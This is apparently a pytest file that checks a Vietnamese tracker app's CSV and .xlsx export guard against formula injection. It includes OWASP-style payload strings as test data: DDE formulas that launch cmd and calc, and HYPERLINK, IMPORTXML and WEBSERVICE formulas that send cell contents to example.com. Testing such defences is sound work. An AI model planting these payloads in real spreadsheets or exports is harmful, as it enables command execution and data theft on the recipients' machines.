"""The one guarded CSV writer (tracker/csvsafe.py): the neutralisation rule, numbers untouched,
every CSV writer routed through it, the catalogue and audit CSVs, the .xlsx text cells, and the
dataframe toolbars that would otherwise export raw unit text."""

from __future__ import annotations

import csv
import io
import re
import sys
import tomllib
import unicodedata
import zipfile
from datetime import date, datetime
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from tests import browser_support as bs
from tests.conftest import ROOT
from tests.libreoffice import convert, needs_libreoffice
from tests.seeded import plant, source_copy
from tests.workbook_factory import Book, save
from tracker import csvsafe, settings
from tracker.accounts import admin
from tracker.catalogue import catalogues, criteria
from tracker.exports import tables
from tracker.ingest import contract, submissions, template
from tracker.store import audit, db

CALC = "=cmd|' /C calc'!A0"
ISSUE_10 = "Đã họp giao ban;" + CALC  # the text of issue 10


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM expected"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- the rule -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("-5", "'-5"),  # text that looks like a negative number is still text
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (ISSUE_10, "Đã họp giao ban;'" + CALC),
        ("Đã họp;  =1+1", "Đã họp;'  =1+1"),  # leading spaces do not hide a segment
        ('Đã họp;"=1+1"', 'Đã họp;\'"=1+1"'),  # nor a double quote
        ("Kết quả\t@SUM(A1)", "Kết quả\t'@SUM(A1)"),  # tab-separated segment
        ("Kết quả\t-5 hội nghị", "Kết quả\t'-5 hội nghị"),
        ("a;b;+c;d;-e", "a;b;'+c;d;'-e"),
        ("=a;=b", "'=a;'=b"),
        (" =1+1", "' =1+1"),
        # Every line of a multi-line field (issue 32), whatever the line break.
        ("Đã triển khai\n=1+1+N(", "Đã triển khai\n'=1+1+N("),
        ("Dòng 1\r\n+1+1", "Dòng 1\r\n'+1+1"),
        ("Dòng 1\r-2+3", "Dòng 1\r'-2+3"),
        ("Dòng 1\u2028@SUM(A1)", "Dòng 1\u2028'@SUM(A1)"),
        ("a\n b\n  =1", "a\n b\n'  =1"),
        # Full-width and other forms that fold to = + - @ (NFKC), and the minus sign.
        ("＝1+1", "'＝1+1"),
        ("Kết quả;＋2+3", "Kết quả;'＋2+3"),
        ("x\n－1", "x\n'－1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("\u22122+3", "'\u22122+3"),
        # Zero-width, no-break and ideographic spaces do not hide a formula.
        ("\u200b=1+1", "'\u200b=1+1"),
        ("Đã họp\n\ufeff\u2060=1", "Đã họp\n'\ufeff\u2060=1"),
        ("\u00a0\u3000-5", "'\u00a0\u3000-5"),
    ],
)
def test_neutralise_prefixes_every_formula_looking_segment(text: str, expected: str) -> None:
    assert csvsafe.neutralise(text) == expected
    assert csvsafe.is_formula_like(text)
    assert csvsafe.restore(expected) == text
    # Opened in an Excel that splits on ';', or a reader that loses the quotes and starts a
    # row at each line, no cell starts with a formula character.
    for cell in re.split("[" + "".join(csvsafe.SEGMENT_SEPARATORS) + "]", expected):
        assert not _visible_start(cell).startswith(csvsafe.FORMULA_PREFIXES), cell


def _visible_start(cell: str) -> str:
    """The cell from its first visible character on, folded (NFKC) as a spreadsheet might."""
    return unicodedata.normalize("NFKC", re.sub(f"^[{csvsafe.SKIPPED}]*", "", cell))


def uncovered(skipped: str, starts: str, last: int = sys.maxunicode) -> list[str]:
    """Characters up to `last` that the rule's classes miss: every invisible or space character
    (Unicode Zs, Cf) must be in `skipped`, every one NFKC folds to = + - @ or the minus sign in
    `starts` (the Unicode of the Python running the tests)."""
    skipped_re, starts_re = re.compile(f"[{skipped}]"), re.compile(f"[{starts}]")
    every = (chr(c) for c in range(last + 1) if not 0xD800 <= c <= 0xDFFF)
    return [
        f"U+{ord(ch):04X}"
        for ch in every
        if (unicodedata.category(ch) in {"Zs", "Cf"} and not skipped_re.match(ch))
        or (
            unicodedata.normalize("NFKC", ch)[:1] in {"=", "+", "-", "@", "\u2212"}
            and not starts_re.match(ch)
        )
    ]


def test_the_skipped_and_formula_characters_cover_this_unicode() -> None:
    assert uncovered(csvsafe.SKIPPED, csvsafe.FORMULA_STARTS) == [], (
        f"add to csvsafe.SKIPPED / FORMULA_STARTS (Unicode {unicodedata.unidata_version})"
    )


def test_seeded_violation_a_missing_character_is_reported() -> None:
    skipped = csvsafe.SKIPPED.replace("\u2000-\u200f", "\u2000-\u200a\u200c-\u200f")
    starts = csvsafe.FORMULA_STARTS.replace("\uff1d", "")
    assert uncovered(skipped, starts, last=0xFFFF) == ["U+200B", "U+FF1D"]


@pytest.mark.parametrize(
    "text",
    [
        "Bình thường",
        "",
        "Quán triệt Chỉ thị 46-CT/TW",
        "2026-W08;2026-W09",
        "Tốt:90;Khá:70;Trung bình:50;Yếu:0",
        "a - b; c - d",
        "'=đã có dấu nháy",
        "Dòng 1\nDòng 2 - ý 2\r\nDòng 3",
        "Kết quả: 2 = 1 + 1",
    ],
)
def test_plain_text_is_left_alone(text: str) -> None:
    assert csvsafe.neutralise(text) == text
    assert not csvsafe.is_formula_like(text)


@pytest.mark.parametrize("value", [-5, -5.25, np.float64(-1.5), np.int64(-2), True, None])
def test_numbers_and_missing_values_pass(value: object) -> None:
    assert csvsafe.neutralise(value) is value


def test_rows_csv_keeps_numbers_and_neutralises_text() -> None:
    data = csvsafe.rows_csv(
        ["Mã", "Số", "Văn bản", "Điểm", "Trống"],
        [
            ["A", -3, "-3", csvsafe.Number(-5.25), None],
            ["B", 2.5, ISSUE_10, csvsafe.Number(7, 0), ""],
        ],
    )
    assert (
        data
        == (
            "\ufeffMã,Số,Văn bản,Điểm,Trống\r\n"
            "A,-3,'-3,-5.2,\r\n"
            "B,2.5,Đã họp giao ban;'=cmd|' /C calc'!A0,7,\r\n"
        ).encode()
    )


def test_frame_csv_keeps_numbers_and_neutralises_text() -> None:
    df = pd.DataFrame(
        {
            "Mã": ["A", "B"],
            "Điểm": [-1.25, 90.0],
            "Hạng": pd.array([pd.NA, 1], dtype="Int64"),
            "Ghi chú": ["Kết quả\t@SUM(A1)", None],
        }
    )
    assert (
        csvsafe.frame_csv(df, float_format="%.1f")
        == ("\ufeffMã,Điểm,Hạng,Ghi chú\r\nA,-1.2,,Kết quả\t'@SUM(A1)\r\nB,90.0,1,\r\n").encode()
    )
    assert csvsafe.safe_frame(df)["Điểm"].dtype == "float64"  # numeric columns stay numeric


# --- every CSV writer goes through csvsafe ------------------------------------------------

_WRITER = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|\.writerows?\(")


def csv_writers(root: Path) -> list[str]:
    """Every line outside tracker/csvsafe.py that writes CSV by itself: 'file:line'."""
    sources = [*(root / "tracker").rglob("*.py"), *(root / "pages").rglob("*.py"), root / "app.py"]
    guarded = root / "tracker" / "csvsafe.py"
    assert guarded.is_file(), "the guarded writer moved: update this guard"
    return [
        f"{path.relative_to(root)}:{n}"
        for path in sources
        if path != guarded
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if _WRITER.search(line)
    ]


def test_no_csv_writer_outside_csvsafe() -> None:
    assert csv_writers(ROOT) == [], "write CSV only through tracker.csvsafe (rows_csv / frame_csv)"


def test_the_csv_guard_sees_a_writer_of_its_own(tmp_path: Path) -> None:
    root = source_copy(tmp_path)
    plant(root, "tracker/exports/seeded.py", '"""x."""\n\ndef f(df):\n    return df.to_csv()\n')
    plant(root, "pages/seeded.py", '"""x."""\nimport csv\nw = csv.writer(open("x"))\n')
    assert sorted(csv_writers(root)) == ["pages/seeded.py:3", "tracker/exports/seeded.py:4"]


# --- catalogue and audit CSVs -----------------------------------------------------------


def test_catalogue_export_neutralises_and_reads_back(tmp_db: Path) -> None:
    with db.transaction() as tx:
        tx.execute(
            "update unit set name = $n, note = '-5 biên chế' where code = 'KT'", {"n": ISSUE_10}
        )
    data = catalogues.export_csv("units")
    kt = next(r for r in _rows(data) if r[0] == "KT")
    assert kt[1] == "Đã họp giao ban;'" + CALC
    assert kt[4] == "'-5 biên chế"
    assert kt[2] == "True"  # booleans are not text
    assert data.startswith("\ufeffcode,name,active,sample,note\n".encode())  # LF, as in data/
    # Read back (the admin's edit-and-reload round trip): the guard apostrophes are dropped.
    problems: list[str] = []
    rows = dict(
        (r["code"], r) for _, r in catalogues.read_csv(data.decode("utf-8"), "units", problems)
    )
    assert problems == []
    assert (rows["KT"]["name"], rows["KT"]["note"]) == (ISSUE_10, "-5 biên chế")


def test_audit_csv_neutralises_segments(users: dict) -> None:
    audit.record(
        "catalogue_edit", username="admin", role="quan_tri", target=ISSUE_10, detail="\t@x"
    )
    today = settings.now().date()
    entries = admin.audit_entries(users["quan_tri"], date_from=today, date_to=today)
    rows = _rows(admin.audit_csv(entries, users["quan_tri"]))
    edit = next(r for r in rows if r[4].startswith("Đã họp"))
    assert edit[4] == "Đã họp giao ban;'" + CALC
    assert edit[5] == "'\t'@x"
    assert all(not c.startswith(csvsafe.FORMULA_PREFIXES) for r in rows for c in r)


def test_audit_csv_handles_empty_range(users: dict) -> None:
    entries = admin.audit_entries(
        users["quan_tri"], date_from=date(2020, 1, 1), date_to=date(2020, 1, 2)
    )
    assert _rows(admin.audit_csv(entries, users["quan_tri"])) == [
        list(admin.AUDIT_COLUMNS.values())
    ]


# --- .xlsx text cells ---------------------------------------------------------------------


def test_xlsx_text_is_never_a_formula() -> None:
    wb = Workbook()
    ws = wb.active
    for row, text in enumerate([CALC, ISSUE_10, "-5", "Bình thường"], start=1):
        csvsafe.xlsx_text(ws.cell(row=row, column=1), text)
    out = io.BytesIO()
    wb.save(out)
    back = load_workbook(io.BytesIO(out.getvalue()))
    cells = [back.active.cell(row=r, column=1) for r in range(1, 5)]
    assert [c.value for c in cells] == [CALC, ISSUE_10, "-5", "Bình thường"]  # text kept as is
    assert [c.data_type for c in cells] == ["s"] * 4
    assert [c.quotePrefix for c in cells] == [True, True, True, False]


# --- st.dataframe toolbars ------------------------------------------------------------------


def test_dataframe_toolbar_export_is_disabled() -> None:
    """The st.dataframe / st.data_editor / chart toolbars would download raw unit text as CSV
    (and copy it to the clipboard, which Excel also evaluates): `client.disableDataExport` hides
    them in every table at once, so CSVs come only from the guarded download buttons."""
    from streamlit import config

    assert "client.disableDataExport" in config._config_options_template
    with open(ROOT / ".streamlit" / "config.toml", "rb") as f:
        assert tomllib.load(f)["client"]["disableDataExport"] is True


def _formulas(xlsx: bytes) -> list[str]:
    """Worksheets of an .xlsx that hold a formula element."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [
            n
            for n in z.namelist()
            if n.startswith("xl/worksheets/sheet") and re.search(r"<f[ >]", z.read(n).decode())
        ]


def test_template_does_not_turn_last_weeks_text_into_a_formula(users: dict) -> None:
    """The reporter typed as text ('=1+1 in Excel) comes back pre-filled next week as text."""
    book = Book()
    wb = book.workbook()
    cell = wb.worksheets[0][book.header_cell(contract.LABEL_REPORTER)]
    cell.value, cell.data_type = "=1+1", "s"
    result = submissions.submit(
        save(wb), "hctc-w10.xlsx", users["don_vi"], now=datetime(2026, 3, 5, 10)
    )
    assert result.status == "accepted", result.errors
    data = template.build("HCTC", "2026-W11")
    assert _formulas(data) == []
    back = load_workbook(io.BytesIO(data)).worksheets[0]
    reporter = next(
        r[1] for r in back.iter_rows(max_col=2) if r[0].value == f"{contract.LABEL_REPORTER}:"
    )
    assert (reporter.value, reporter.data_type, reporter.quotePrefix) == ("=1+1", "s", True)


def test_criteria_xlsx_keeps_formula_looking_text_as_text(tmp_db: Path) -> None:
    set_id = criteria.active_set(year=2026)["id"]
    with db.transaction() as tx:
        tx.execute(
            "update criterion set title = $t where set_id = $s and sort_order = "
            "(select min(sort_order) from criterion where set_id = $s)",
            {"t": CALC, "s": set_id},
        )
    data = criteria.to_xlsx(set_id)
    assert _formulas(data) == []
    rows, problems = criteria.parse_xlsx(data)
    assert problems == []
    assert rows[0]["title"] == CALC  # round trip: the text, not a formula's missing result


# --- imported by LibreOffice with ',' and with ';': not one formula cell (issue 32) ------------

# OWASP's CSV injection examples (owasp.org/www-community/attacks/CSV_Injection and the CSV
# Injection Prevention Cheat Sheet), and the same with a quote or a separator placed to break
# out of the field.
OWASP_PAYLOADS = [
    "=1+1",
    CALC,
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("http://example.com/?leak="&A1&A2,"Error: please click for further information")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\n-3+3+cmd|' /C calc'!D2",  # OWASP's %0A-3+3+cmd…, the line feed decoded
    '=IMPORTXML(CONCAT("http://example.com/?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("http://example.com/"&A1)',
    "\t=1+1",
    "\r=1+1",
    '"=1+1',
    'x";=1+1',
    'x","=1+1',
    "a,=1+1",
    ISSUE_10,
]
# Issue 32's: a formula split over two neighbouring cells' lines, and the forms that fold to a
# formula character or hide it behind an invisible one.
ISSUE_32_ROWS = [
    ["Đã triển khai\n=1+1+N(", ")\nCông văn 12/CV"],
    ["Đã họp\r\n+1+1", "Kết quả\r-2+3"],
    ["＝1+1", "Dòng 1\n＋2+3"],
    ["\u200b=1+1", "Dòng 1\n\ufeff@SUM(1+1)"],
    ["\u3000=1+1", "Dòng 1\u2028=1+1"],
]
# LibreOffice's CSV import (help: "CSV Filter Options"): UTF-8, '"' quotes, token 13 = evaluate
# formulas, as Excel does on opening a CSV.
_IMPORT = "CSV:{separator},34,76,1,,0,false,true,false,false,false,0,true"


def _payload_rows() -> list[list[str]]:
    return [["OWASP", text, "Bình thường"] for text in OWASP_PAYLOADS] + [
        ["Issue 32", *cells] for cells in ISSUE_32_ROWS
    ]


def formula_cells(data: bytes, separator: str, folder: Path) -> list[str]:
    """The formulas LibreOffice Calc makes of a CSV file imported with `separator`."""
    folder.mkdir(parents=True, exist_ok=True)
    source = folder / "xuat.csv"
    source.write_bytes(data)
    out = convert(
        source, "fods", folder / "calc", infilter=_IMPORT.format(separator=ord(separator))
    )
    return re.findall(r'table:formula="([^"]*)"', out.read_text(encoding="utf-8"))


def _issue_32_detail_csv(users: dict) -> bytes:
    """The detail CSV (page and `export detail`) after HCTC uploaded issue 32's two cells."""
    book = Book()
    row = next(r for r in book.progress if r["task_code"] == "II.1.a")
    row["result_text"], row["evidence"] = ISSUE_32_ROWS[0]
    result = submissions.submit(
        book.to_bytes(), "hctc-w10.xlsx", users["don_vi"], now=datetime(2026, 3, 5, 10)
    )
    assert result.status == "accepted", result.errors
    return tables.detail_csv("2026-W10")


@pytest.mark.slow
@needs_libreoffice
@pytest.mark.parametrize("separator", [",", ";"])
def test_libreoffice_finds_no_formula_in_the_exports(
    users: dict, tmp_path: Path, separator: str
) -> None:
    payloads = csvsafe.rows_csv(["Nguồn", "Ô 1", "Ô 2"], _payload_rows())
    assert formula_cells(payloads, separator, tmp_path / "payloads") == []
    detail = _issue_32_detail_csv(users)
    assert "Đã triển khai\n'=1+1+N(" in detail.decode("utf-8-sig")
    assert formula_cells(detail, separator, tmp_path / "detail") == []


@pytest.mark.slow
@needs_libreoffice
def test_seeded_violation_libreoffice_runs_the_unguarded_payloads(tmp_path: Path) -> None:
    """The same rows written by a plain CSV writer: LibreOffice makes formulas of them with
    either separator, among them issue 32's `=1+1+N(",")` with ';'. The check above can fail."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(_payload_rows())
    unguarded = (csvsafe.BOM + out.getvalue()).encode("utf-8")
    assert len(formula_cells(unguarded, ",", tmp_path / "comma")) >= 5
    semicolon = formula_cells(unguarded, ";", tmp_path / "semicolon")
    assert "of:=1+1+N(&quot;,&quot;)" in semicolon


@pytest.mark.browser
@pytest.mark.skipif(not bs.CHROMIUM.exists(), reason="needs Debian's /usr/bin/chromium")
def test_grid_toolbar_has_no_csv_download_in_a_real_browser(tmp_path: Path) -> None:
    """The app as served (`streamlit run app.py` with the repo's config): a table's toolbar
    offers search but no "Download as CSV"."""
    from playwright.sync_api import expect

    path = tmp_path / "tracker.duckdb"
    db.close_all()
    bs.create_accounts(path)
    with bs.running_server(path) as url, bs.chromium() as browser:
        context, page, watch = bs.new_page(browser, url)
        try:
            page.goto(f"{url}/ke_hoach")
            bs.login(page, bs.ACCOUNTS["lanh_dao"])
            bs.heading(page, "Kế hoạch năm 2026")
            grid = page.get_by_test_id("stDataFrame").first
            grid.hover()
            expect(grid.get_by_role("button", name="Search")).to_be_attached()
            assert grid.get_by_role("button", name="Download as CSV").count() == 0
            watch.assert_clean()
        finally:
            context.close()
